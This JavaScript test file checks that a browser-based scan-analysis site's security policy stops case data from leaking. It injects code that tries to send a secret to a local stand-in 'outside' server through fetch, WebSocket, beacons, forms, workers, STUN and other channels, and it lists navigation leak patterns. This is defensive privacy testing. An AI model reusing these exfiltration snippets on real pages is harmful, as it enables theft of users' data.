// That nothing of a case leaves the browser: what tries to send is stopped, and a whole study is searched for the case's own
// bytes. Each way out is first shown to get out where the policy is lifted: then silence means that it was stopped.
// docs/privacy.md says what each of these tests stands for.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { sealSite } from '../../scripts/seal_site.mjs';
import { contentSecurityPolicy } from '../../scripts/serve.mjs';
import {
  dist,
  engineWorker,
  openFiles,
  openSite,
  python,
  runStudy,
  scratchFolder,
  siteOf,
  testModels,
} from './support.mjs';

// What is sent from where it must not get out is marked so; all else is sent to show that it would be seen, and a browser may send
// it twice.
const GUARDED = '-guarded';

/** Somebody else's server: notes what reaches it, whatever it is. */
async function outsideServer() {
  /** @type {string[]} */
  const reached = [];
  const server = http.createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('export {}');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  // A peer connection's first message has no room for a secret: it is known by the port.
  const datagrams = ['', GUARDED].map((mark) =>
    createSocket('udp4').on('message', () => reached.push(`datagram to page-RTCPeerConnection${mark}`)),
  );
  for (const socket of datagrams) await new Promise((resolve) => socket.bind(0, '127.0.0.1', () => resolve(undefined)));
  const port = /** @type {import('node:net').AddressInfo} */ (server.address()).port;
  return {
    url: `http://127.0.0.1:${port}/`,
    /** @param {string} secret */
    stun: (secret) => `stun:127.0.0.1:${datagrams[Number(secret.endsWith(GUARDED))].address().port}`,
    /** What of it has reached this server. @param {string} secret */
    has: (secret) => reached.filter((each) => each.includes(secret)),
    close() {
      server.closeAllConnections();
      server.close();
      for (const socket of datagrams) socket.close();
    },
  };
}

/** The site with its policy taken out of the page, and peer connections left in. */
function liftedSite() {
  const folder = siteOf(testModels(['tiny-unet'], 12));
  /** @param {string} name @param {(text: string) => string} change */
  const edit = (name, change) => {
    const file = path.join(folder, name);
    const text = readFileSync(file, 'utf8');
    const changed = change(text);
    assert.notEqual(changed, text, name);
    rmSync(file);
    writeFileSync(file, changed);
  };
  edit('web/boot.js', (text) => text.replace(/^for \(const name of \['RTCPeerConnection'.*$/m, ''));
  sealSite(folder); // the page names boot.js by its hash
  edit('index.html', (text) => text.replace(contentSecurityPolicy, ''));
  return folder;
}

/** @type {Awaited<ReturnType<typeof outsideServer>>} */
let outside;
/** @type {Awaited<ReturnType<typeof openSite>>} */
let site;
/** The same page without a policy. @type {Awaited<ReturnType<typeof openSite>>} */
let lifted;
before(async () => {
  outside = await outsideServer();
  site = await openSite({ models: ['tiny-unet'], spacing: 12 });
  lifted = await openSite({ folder: liftedSite(), plain: true, context: { serviceWorkers: 'block' } });
});
after(async () => {
  await lifted?.close();
  await site?.close();
  outside.close();
});

/** Code that sends `secret` to `url` in each way a page or a worker has, and the directive by which the policy refuses it. @type {Record<string, [string, string]>} */
const ways = {
  fetch: ['connect-src', "await fetch(url + secret, { method: 'POST', body: secret, mode: 'no-cors' })"],
  XMLHttpRequest: [
    'connect-src',
    "const x = new XMLHttpRequest(); x.open('POST', url + secret, false); x.send(secret)",
  ],
  WebSocket: ['connect-src', "new WebSocket(url.replace('http', 'ws') + secret)"],
  EventSource: ['connect-src', 'const e = new EventSource(url + secret); e.onerror = () => e.close()'],
  'dynamic import': ['script-src-elem', 'await import(url + secret)'],
};
const element = (/** @type {string} */ tag, /** @type {string} */ set, parent = 'head') =>
  `const e = Object.assign(document.createElement('${tag}'), { ${set} }); document.${parent}.append(e)`;
/** @type {Record<string, [string, string]>} */
const pageWays = {
  ...ways,
  sendBeacon: ['connect-src', 'navigator.sendBeacon(url + secret, secret)'],
  image: ['img-src', 'new Image().src = url + secret'],
  'style sheet': ['style-src-elem', element('link', "rel: 'stylesheet', href: url + secret")],
  'prefetch link': ['default-src', element('link', "rel: 'prefetch', href: url + secret")],
  frame: ['frame-src', element('iframe', 'src: url + secret', 'body')],
  form: ['form-action', `${element('form', "action: url + secret, method: 'post'", 'body')}; e.submit()`],
  worker: ['worker-src', "new Worker(URL.createObjectURL(new Blob([`importScripts('${url + secret}')`])))"],
  // No policy covers it: the page has it removed before anything else runs.
  RTCPeerConnection: [
    'RTCPeerConnection is not defined',
    "const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
  ],
};

/** The code as an expression that tries it, and does not wait. @param {string} code @param {string} secret */
function attempt(code, secret) {
  const told = `const url = '${outside.url}', stun = '${outside.stun(secret)}', secret = '${secret}'`;
  return `void (async () => { ${told}; ${code}; })().catch(() => {})`;
}

/** The code as an expression that gives by what it was refused. @param {string} code @param {string} secret */
function refusal(code, secret) {
  const told = `const url = '${outside.url}', stun = '${outside.stun(secret)}', secret = '${secret}'`;
  return `new Promise((resolve) => {
    addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(resolve, 10_000, 'nothing, for 10 s');
    (async () => { ${told}; ${code}; })().catch((error) => error instanceof ReferenceError && resolve(error.message));
  })`;
}

/** @param {string} secret */
async function reaches(secret) {
  for (let n = 0; n < 1000 && outside.has(secret).length === 0; ++n)
    await new Promise((resolve) => setTimeout(resolve, 10));
  return outside.has(secret).length > 0;
}

for (const [name, [directive, code]] of Object.entries(pageWays)) {
  test(`from the page, ${name} reaches nobody; without the policy it would`, async () => {
    const secret = `page-${name.replaceAll(' ', '-')}`;
    // A form takes the page along.
    const page = name === 'form' ? await lifted.context.newPage() : lifted.page;
    if (page !== lifted.page) await page.goto(lifted.url);
    await page.evaluate(attempt(code, secret));
    assert.ok(await reaches(secret), 'the test would see it');
    if (page !== lifted.page) await page.close();
    // Built into the page by the test's own channel: the policy forbids the page to evaluate text.
    assert.equal(await site.page.evaluate(refusal(code, secret + GUARDED)), directive);
    assert.deepEqual(outside.has(secret + GUARDED), []);
    assert.equal(await site.page.evaluate(() => /** @type {any} */ (window).shapslice.ready), true);
  });
}

for (const [name, [directive, code]] of Object.entries(ways)) {
  test(`from the engine's worker, ${name} reaches nobody; without the policy it would`, async () => {
    const secret = `worker-${name.replaceAll(' ', '-')}`;
    await engineWorker(lifted.page).evaluate(attempt(code, secret));
    assert.ok(await reaches(secret), 'the test would see it');
    assert.equal(await engineWorker(site.page).evaluate(refusal(code, secret + GUARDED)), directive);
    assert.deepEqual(outside.has(secret + GUARDED), []);
  });
}

test('the service worker fetches for nobody else: what is not of the site is not there', async () => {
  const plain = await openSite({ models: ['tiny-unet'], spacing: 12, plain: true }); // its worker comes without a policy
  try {
    const [free] = plain.context.serviceWorkers();
    assert.ok(free, 'the service worker');
    await free.evaluate(attempt(ways.fetch[1], 'service-worker'));
    assert.ok(await reaches('service-worker'), 'the test would see it');
  } finally {
    await plain.close();
  }
  const [worker] = site.context.serviceWorkers();
  assert.ok(worker, 'the service worker');
  assert.equal(await worker.evaluate(refusal(ways.fetch[1], `service-worker${GUARDED}`)), 'connect-src');
});

test('after all of these nothing has come late', () => {
  assert.deepEqual(outside.has(GUARDED), []);
});

test('what a policy cannot stop, a navigation, nothing of the page does', () => {
  // Leaving the page for an address is the user's right, so no policy forbids it: docs/privacy.md says what is done instead.
  const leaves = /window\.open|location\.(assign|replace)\(|location(\.href)?\s*=[^=]|\bopener\b|ping=/;
  for (const code of ["window.open('x')", 'location.assign(x)', "location = 'x'", 'location.href=x', '<a ping="x">'])
    assert.match(code, leaves);
  const modules = readdirSync(path.join(dist, 'web')).filter((name) => name.endsWith('.js'));
  const sources = modules.map((name) => readFileSync(path.join(dist, 'web', name), 'utf8')).join('\n');
  assert.ok(sources.length > 20_000);
  assert.doesNotMatch(sources, leaves);
});

test('in every byte that the browser sends during a study there is nothing of the case', async () => {
  const canary = 'kanarie7f3a';
  const folder = scratchFolder();
  // A small head whose voxels are a sequence found nowhere else, under a name found nowhere else.
  const runs = python(
    `
import json, sys, numpy as np, nibabel as nib
folder, name = sys.argv[1:]
rng = np.random.default_rng(7)
runs = []
for contrast in ('t1c', 't1n', 't2f', 't2w', 'seg'):
    voxels = np.zeros((30, 30, 30), np.int16)
    voxels[4:26, 4:26, 4:26] = rng.integers(1, 4 if contrast == 'seg' else 30000, (22, 22, 22))
    nib.save(nib.Nifti1Image(voxels, np.diag([6, 6, 6, 1])), f'{folder}/{name}-{contrast}.nii')
    row = voxels[5:13, 10, 10]
    runs += [row.astype(kind).tobytes().hex() for kind in ('<i2', '>i2', '<f4')] if contrast != 'seg' else []
print(json.dumps(runs))`,
    folder,
    canary,
  );
  const sent = await openSite({ models: ['tiny-unet'], spacing: 12, record: true });
  try {
    const files = ['t1c', 't1n', 't2f', 't2w', 'seg'].map((each) => path.join(folder, `${canary}-${each}.nii`));
    const { error } = await openFiles(sent.page, files);
    assert.equal(error, undefined);
    const result = await runStudy(sent.page);
    assert.equal(result.caseName, canary);
    await sent.page.evaluate(() => /** @type {any} */ (window).shapslice.csv());
    const forms = [
      Buffer.from(canary),
      Buffer.from(Buffer.from(canary).toString('base64').slice(0, 12)),
      Buffer.from(canary, 'utf16le'),
      ...runs.map((/** @type {string} */ run) => Buffer.from(run, 'hex')),
    ];
    // Names may be written in other cases; voxels are searched for as they are.
    const found = (/** @type {Buffer} */ bytes) => {
      const text = bytes.toString('latin1').toLowerCase();
      return forms.filter((form) => bytes.includes(form) || text.includes(form.toString('latin1').toLowerCase()));
    };
    await sent.page.evaluate(() => fetch('LICENSE', { cache: 'no-store' })); // what was sent before it has arrived with it
    const bytes = Buffer.concat(sent.recorded);
    const text = bytes.toString('latin1').toLowerCase();
    assert.ok(bytes.includes('GET '), 'the recorder sees what the browser asks for');
    assert.deepEqual(found(bytes), []);
    console.log(`the browser sent ${bytes.length} bytes in all, to anybody, from its start to the end of a study`);
    // Every request is for a file of the site. What Chromium itself asks its maker for is told apart by its host; that too was
    // searched above.
    for (const line of text.match(/^[a-z]+ \S+ http\/1\.1\r?$/gm) ?? [])
      assert.match(line, /^get http:\/\/localhost:\d+\/|^\w+ (http:\/\/)?[\w.]+\.google(apis)?\.com[:/]/);
    // Had the page sent any of these, to its own server at that, the recorder would have it.
    await sent.page.evaluate(
      (bodies) =>
        Promise.all(
          bodies.map((text) =>
            fetch('LICENSE', { method: 'POST', body: Uint8Array.from(atob(text), (c) => c.charCodeAt(0)) }),
          ),
        ),
      forms.map((form) => form.toString('base64')),
    );
    assert.equal(found(Buffer.concat(sent.recorded)).length, forms.length);
  } finally {
    await sent.close();
  }
});
